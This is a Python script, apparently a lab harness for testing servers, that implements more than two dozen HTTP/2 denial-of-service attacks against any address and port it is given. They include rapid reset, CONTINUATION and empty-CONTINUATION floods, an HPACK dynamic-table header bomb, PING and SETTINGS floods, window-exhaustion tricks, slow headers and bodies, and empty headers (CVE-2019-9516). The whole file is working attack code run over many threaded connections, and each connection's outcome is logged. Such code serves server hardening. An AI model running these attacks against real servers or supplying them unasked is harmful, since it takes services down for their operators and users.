"""Clients that abuse HTTP/2, frame by frame: http2.py ATTACK ADDRESS PORT...

Goes on until the connection is ended from the other side, and then prints its own port and how that
happened: one JSON line a connection. Each function is one attack; what it sends is bounded, so that a
connection that nobody ends is told by `"how": "open"`.
"""

import json
import select
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PATIENCE = 40


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(index, text):
    assert len(text) < 127
    return bytes([index, len(text)]) + text


def head(path=b"/", method=0x82, more=b""):
    return bytes([method, 0x86]) + literal(0x04, path) + literal(0x01, b"lab") + more


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def get(stream, path=b"/", more=b""):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path, more=more))


def post(stream, path=b"/"):
    return frame(HEADERS, END_HEADERS, stream, head(path, 0x83))


def setting(number, value):
    return struct.pack(">HI", number, value)


class Ended(Exception):
    pass


class Connection:
    """Settings are exchanged when this is made."""

    def __init__(self, to, settings=b"", read=True, receive_buffer=None):
        self.socket = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(PATIENCE)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.connect(to)
        self.port = self.socket.getsockname()[1]
        self.read, self.rest = read, b""
        self.streams = iter(range(1, 1 << 31, 2))
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))

    def send(self, octets):
        """Sends all, and takes what comes meanwhile: a client whose windows are full learns nothing."""
        view = memoryview(octets)
        deadline = time.monotonic() + PATIENCE
        while view:
            readable, writable, _ = select.select([self.socket] if self.read else [], [self.socket], [], 1)
            try:
                if readable:
                    self.take()
                if writable:
                    view = view[self.socket.send(view[: 256 << 10]) :]
            except OSError as error:
                raise Ended(type(error).__name__)
            if time.monotonic() > deadline:
                raise Ended("open")

    def take(self):
        try:
            octets = self.socket.recv(1 << 16)
        except OSError as error:
            raise Ended(type(error).__name__)
        if not octets:
            raise Ended("closed")
        return octets

    def watch(self, acknowledge=True):
        """Until the end; answers PING as a live client does."""
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline:
            if not select.select([self.socket], [], [], 0.5)[0]:
                continue
            self.rest += self.take()
            while len(self.rest) >= 9:
                length = int.from_bytes(self.rest[:3], "big")
                if len(self.rest) < 9 + length:
                    break
                kind, flags = self.rest[3:5]
                payload, self.rest = self.rest[9 : 9 + length], self.rest[9 + length :]
                if acknowledge and kind == PING and not flags & 1:
                    self.send(frame(PING, 1, 0, payload))
        raise Ended("open")

    def end(self):
        """Never reads: how the kernel says that the other side has gone."""
        poll = select.poll()
        poll.register(self.socket, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        raise Ended("gone" if poll.poll(PATIENCE * 1000) else "open")


def many(c, make, count=100_000, batch=500):
    for _ in range(count // batch):
        c.send(b"".join(make(next(c.streams)) for _ in range(batch)))


def rapid_reset(c):
    many(c, lambda s: get(s) + frame(RST, 0, s, struct.pack(">I", 8)))


def reset_later(c):
    """One by one, each long after it was taken up (to a server that does not answer)."""
    for _ in range(400):
        stream = next(c.streams)
        c.send(get(stream))
        time.sleep(0.005)
        c.send(frame(RST, 0, stream, struct.pack(">I", 8)))
    c.watch()


def made_you_reset(c):
    """The server is made to reset: no window may grow so large."""
    many(c, lambda s: get(s) + frame(WINDOW, 0, s, struct.pack(">I", 0x7FFFFFFF)), batch=100)


def too_many_streams(c):
    many(c, get, batch=500)


def continuation(c):
    c.send(frame(HEADERS, END_STREAM, 1, head()))
    piece = frame(CONTINUATION, 0, 1, field(b"x-more", b"y" * 100) * 100)
    for _ in range(5000):
        c.send(piece * 4)


def empty_continuation(c):
    c.send(frame(HEADERS, END_STREAM, 1, head()))
    many(c, lambda _: frame(CONTINUATION, 0, 1))


def settings(c):
    many(c, lambda _: frame(SETTINGS, 0, 0, setting(4, 65535) * 20))


def settings_acknowledged(c):
    many(c, lambda _: frame(SETTINGS, 1, 0))


def ping(c):
    many(c, lambda _: frame(PING, 0, 0, b"12345678"))


def ping_unread(c):
    """The answers pile up, or nothing more is read."""
    many(c, lambda _: frame(PING, 0, 0, b"12345678"), count=400_000)


def priority(c):
    many(c, lambda _: frame(PRIORITY, 0, 1 + 2 * (int(time.monotonic() * 1e6) % 99), struct.pack(">IB", 0, 1)))


def unknown(c):
    many(c, lambda _: frame(0x55, 0, 0, b"grease"))


def empty_data(c):
    c.send(post(1))
    many(c, lambda _: frame(DATA, 0, 1))


def small_data(c):
    """Octet by octet, to a server that takes none of it."""
    c.send(post(1))
    many(c, lambda _: frame(DATA, 0, 1, b"x"), count=60_000)


def window_drip(c):
    """Asks for a large answer an octet at a time."""
    c.send(get(1, b"/big"))
    many(c, lambda _: frame(WINDOW, 0, 1, struct.pack(">I", 1)), batch=50)


def window_overflow(c):
    c.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)
    c.watch()


def no_window(c):
    """100 large answers that no window lets out."""
    c.send(b"".join(get(next(c.streams), b"/big") for _ in range(100)))
    c.watch()


def one_octet_window(c):
    c.send(b"".join(get(next(c.streams), b"/big") for _ in range(100)))
    c.watch()


def unread(c):
    """The windows are wide open, but nobody reads the socket."""
    c.send(b"".join(get(next(c.streams), b"/big") for _ in range(100)))
    c.end()


def header_bomb(c):
    """A large entry of the dynamic table, then thousands of references to it."""
    entry = b"\x40" + b"\x01x" + b"\x7f" + b"\x81\x1e" + b"v" * 3968
    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, head(more=entry)))
    for stream in range(3, 2000, 2):
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, head(more=b"\xbe" * 16_000)))
    c.watch()


def empty_headers(c):
    """Headers without a name or a value (CVE-2019-9516)."""
    many(c, lambda s: get(s, more=b"\0\0\0" * 100), batch=100)


def slow_head(c):
    c.send(frame(HEADERS, END_STREAM, 1, head()))
    for _ in range(PATIENCE * 4):
        time.sleep(0.25)
        c.send(frame(CONTINUATION, 0, 1, field(b"x", b"y")))


def slow_body(c):
    c.send(post(1) + frame(DATA, 0, 1, b"beginning"))
    c.watch()


def idle(c):
    c.watch()


def mute(c):
    c.watch(acknowledge=False)


ATTACKS = {
    "no_window": {"settings": setting(4, 0)},
    "one_octet_window": {"settings": setting(4, 1)},
    "window_drip": {"settings": setting(4, 0)},
    "unread": {"settings": setting(4, 0x7FFFFFFF), "read": False, "receive_buffer": 4096},
    "ping_unread": {"read": False, "receive_buffer": 4096},
}


def main():
    attack, address, port, connections = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    import threading

    def one():
        c = None
        try:
            c = Connection((address, port), **ATTACKS.get(attack, {}))
            if attack in ("unread", "one_octet_window", "no_window"):
                # The connection's own window must not be what holds the answers back.
                c.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000)))
            globals()[attack](c)
            c.watch()
        except Ended as ended:
            sys.stdout.write(json.dumps({"port": c and c.port, "how": str(ended)}) + "\n")
        except OSError as error:
            sys.stdout.write(json.dumps({"port": c and c.port, "how": repr(error)}) + "\n")

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


main()
